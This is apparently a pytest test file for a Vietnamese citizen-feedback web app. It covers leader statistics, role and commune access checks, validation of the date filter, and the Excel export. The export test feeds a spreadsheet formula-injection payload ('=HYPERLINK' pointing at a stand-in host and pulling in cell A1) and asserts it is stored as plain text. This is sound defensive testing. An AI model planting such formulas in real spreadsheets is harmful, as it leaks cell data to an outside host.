"""The leader's view of feedback (issue 9 §7): who reads which commune, the numbers on a scripted
set of items, the period filter, the workbook (text cells, never a formula)."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from motcua.core import clock
from motcua.feedback.models import Channel
from motcua.feedback.services import feedback_create
from motcua.feedback.stats import feedback_stats
from motcua.feedback.workflow import Action, Actor, feedback_apply
from motcua.geo.models import Province
from motcua.org.models import Role
from motcua.testing import make_feedback_setup, make_staff, make_user

from .conftest import NOW

URL = "/phan-anh/tong-hop/"
LATER = NOW + dt.timedelta(days=30)  # 12/03/2026: every item below is past its deadline


@pytest.fixture
def items(ward, staff, setup):
    """Seven items of the scripted set (received 10/02 to 13/02/2026):
    - chiếu sáng, tổ 1, «Hẻm 12 Hà Huy Tập» ×3: resolved after 2 days (rated 4), resolved on the
      spot (rated 2), still new (overdue at LATER);
    - thoát nước, tổ 1: assigned (overdue), tổ 2: escalated (overdue), tổ 2: resolved after 4 days;
    - rác thải, no neighbourhood: a duplicate of the first (not a recurring place).
    """
    cat, places = setup["categories"], setup["neighbourhoods"]
    leader, spec = staff["leader"], staff["specialist_econ"]

    def make(category, place, day, title, address=""):
        return feedback_create(
            commune=ward, channel=Channel.HOTLINE, category=cat[category], neighbourhood=place, address=address,
            title=title, now=NOW + dt.timedelta(days=day), actor=leader,
        )  # fmt: skip

    def step(item, action, actor, day, **data):
        feedback_apply(item=item, action=action, actor=actor, now=NOW + dt.timedelta(days=day), data=data)

    a = make("chieu-sang", places[0], 0, "Đèn hỏng", "Hẻm 12 Hà Huy Tập")
    step(a, Action.ASSIGN, leader, 0, department=spec.department)
    step(a, Action.RESOLVE, spec, 2, note="Đã thay bóng")
    feedback_apply(item=a, action=Action.RATE, actor=None, as_=Actor.REPORTER, now=NOW + dt.timedelta(days=3),
                   data={"rating": 4})  # fmt: skip
    b = make("chieu-sang", places[0], 1, "Đèn chập chờn", "hẻm 12, Hà Huy Tập")
    step(b, Action.RESOLVE_ON_SPOT, leader, 1, note="Đã bật lại cầu dao")
    feedback_apply(item=b, action=Action.RATE, actor=None, as_=Actor.REPORTER, now=NOW + dt.timedelta(days=1),
                   data={"rating": 2})  # fmt: skip
    make("chieu-sang", places[0], 2, "Đèn tắt cả đêm", "Hẻm 12 Hà Huy Tập")
    c = make("thoat-nuoc", places[0], 0, "Cống nghẹt")
    step(c, Action.ASSIGN, leader, 0, department=spec.department)
    d = make("thoat-nuoc", places[1], 0, "Ngập sâu")
    step(d, Action.ESCALATE, leader, 1, note="Cống chính do thành phố quản lý")
    e = make("thoat-nuoc", places[1], 1, "Nắp cống vỡ")
    step(e, Action.ASSIGN, leader, 1, department=spec.department)
    step(e, Action.RESOLVE, spec, 5, note="Đã thay nắp")
    f = make("rac-thai", None, 3, "Rác ở hẻm 12", "Hẻm 12 Hà Huy Tập")
    step(f, Action.DUPLICATE, leader, 3, original=a)
    return [a, b, c, d, e, f]


def test_numbers_on_a_scripted_set(ward, items):
    s = feedback_stats(commune=ward, first=dt.date(2026, 2, 1), last=dt.date(2026, 2, 28), now=LATER)
    assert (s.total.received, s.total.open, s.total.overdue, s.total.resolved) == (7, 3, 3, 3)
    rows = {r.key: (r.received, r.open, r.overdue, r.resolved) for r in s.by_category}
    assert rows["chieu-sang"] == (3, 1, 1, 2)
    assert rows["thoat-nuoc"] == (3, 2, 2, 1)
    assert rows["rac-thai"] == (1, 0, 0, 0)
    assert rows["an-ninh"] == (0, 0, 0, 0)
    places = {r.name: (r.received, r.open, r.overdue) for r in s.by_neighbourhood}
    assert places == {"Tổ dân phố 1": (4, 2, 2), "Tổ dân phố 2": (2, 1, 1), "Không rõ tổ dân phố": (1, 0, 0)}
    # Resolved after 2 days, 0 days (on the spot), 4 days: the median is 2 days.
    assert s.median_days == pytest.approx(2.0)
    assert s.median_days_text == "2,0"
    assert (s.on_spot, s.on_spot_text) == (1, "33 %")
    assert (len(s.ratings), s.rating_text) == (2, "3,0")
    # Tổ 1 + chiếu sáng ×3 and the address (written three ways) ×3; the duplicate is not counted.
    recurring = {(r.place, r.category, r.count) for r in s.recurring}
    assert recurring == {("Tổ dân phố 1", "Chiếu sáng", 3), ("Hẻm 12 Hà Huy Tập", "Chiếu sáng", 3)}
    # Before the deadlines nothing is overdue.
    assert (
        feedback_stats(
            commune=ward, first=dt.date(2026, 2, 1), last=dt.date(2026, 2, 28), now=NOW
        ).total.overdue
        == 0
    )


def test_the_period_counts_items_received_in_it(ward, items):
    s = feedback_stats(commune=ward, first=dt.date(2026, 2, 11), last=dt.date(2026, 2, 11), now=LATER)
    assert (s.total.received, s.total.resolved) == (2, 2)  # b and e
    s = feedback_stats(commune=ward, first=dt.date(2026, 2, 12), last=dt.date(2026, 2, 13), now=LATER)
    assert (s.total.received, s.total.open) == (2, 1)  # the third lamp, and the duplicate


def _get(client, user, **query):
    client.force_login(user)
    with clock.pinned(LATER):
        return client.get(URL, query)


def test_leader_and_admin_read_their_commune(client, ward, staff, items):
    for who in ("leader", "admin"):
        resp = _get(client, staff[who], tu="2026-02-01", den="2026-02-28")
        assert resp.status_code == 200
        body = resp.content.decode()
        assert 'data-testid="received">7<' in body and 'data-testid="overdue">3<' in body
        assert "Hẻm 12 Hà Huy Tập" in body and "<svg" in body
        assert 'href="/phan-anh/tong-hop/">Tổng hợp phản ánh</a>' in body  # the staff nav


@pytest.mark.parametrize("who", ["counter", "specialist_econ", "head_econ"])
def test_other_roles_are_refused(client, staff, items, who):
    assert _get(client, staff[who]).status_code == 403


def test_another_commune_cannot_read_ours(client, ward, staff, items, other_ward):
    theirs = make_staff(other_ward, prefix="ak_")
    make_feedback_setup(other_ward)
    resp = _get(client, theirs["leader"], xa=str(ward.code), tu="2026-02-01", den="2026-02-28")
    assert resp.status_code == 404
    resp = _get(client, theirs["leader"], tu="2026-02-01", den="2026-02-28")
    assert resp.status_code == 200 and 'data-testid="received">0<' in resp.content.decode()
    assert "Hẻm 12" not in resp.content.decode()


def test_province_officer_picks_a_commune_of_the_province_only(client, ward, items, other_ward):
    officer = make_user(None, Role.PROVINCE_OFFICER, "sonoivu")
    officer.province = ward.province
    officer.save()
    resp = _get(client, officer, xa=str(ward.code), tu="2026-02-01", den="2026-02-28")
    assert resp.status_code == 200 and 'data-testid="received">7<' in resp.content.decode()
    hn = Province.objects.create(code=1, name="Thành phố Hà Nội", codename="ha_noi")
    stranger = make_user(None, Role.PROVINCE_OFFICER, "hn_sonoivu")
    stranger.province = hn
    stranger.save()
    assert _get(client, stranger, xa=str(ward.code)).status_code == 404


def test_anonymous_goes_to_login(client):
    resp = client.get(URL)
    assert resp.status_code == 302


@pytest.mark.parametrize(
    "query",
    [
        {"tu": "10/02/2026"},
        {"den": "2026-02-30"},
        {"tu": "2026-03-01", "den": "2026-02-01"},
        {"tu": "2019-12-31"},
        {"tu": "2026-02-01\x00"},
        {"den": "9" * 5000},
        {"tu": "2020-01-01", "den": "2026-02-01"},
    ],
)
def test_a_bad_period_is_a_vietnamese_422(client, staff, query):
    resp = _get(client, staff["leader"], **query)
    assert resp.status_code == 422
    assert 'role="alert"' in resp.content.decode()


def test_the_workbook_has_the_numbers_and_no_formula(client, ward, staff, setup):
    feedback_create(
        commune=ward, channel=Channel.HOTLINE, category=setup["categories"]["khac"],
        neighbourhood=setup["neighbourhoods"][0], title="Khác", now=NOW, actor=staff["leader"],
        address='=HYPERLINK("http://x/"&A1)',
    )  # fmt: skip
    for _ in range(2):
        feedback_create(
            commune=ward, channel=Channel.HOTLINE, category=setup["categories"]["khac"], title="Khác", now=NOW,
            address='=HYPERLINK("http://x/"&A1)', actor=staff["leader"],
        )  # fmt: skip
    resp = _get(client, staff["leader"], tu="2026-02-01", den="2026-02-28", xuat="xlsx")
    assert resp.status_code == 200
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(resp.content))
    assert wb.sheetnames == ["Tổng hợp", "Theo lĩnh vực", "Theo tổ dân phố", "Nơi lặp lại"]
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    summary = {r[0].value: r[1].value for r in wb["Tổng hợp"].iter_rows(min_row=2)}
    assert summary["Đã tiếp nhận"] == 3 and summary["Quá hạn"] == 3
    places = [r[0].value for r in wb["Nơi lặp lại"].iter_rows(min_row=2)]
    assert places == ['=HYPERLINK("http://x/"&A1)']
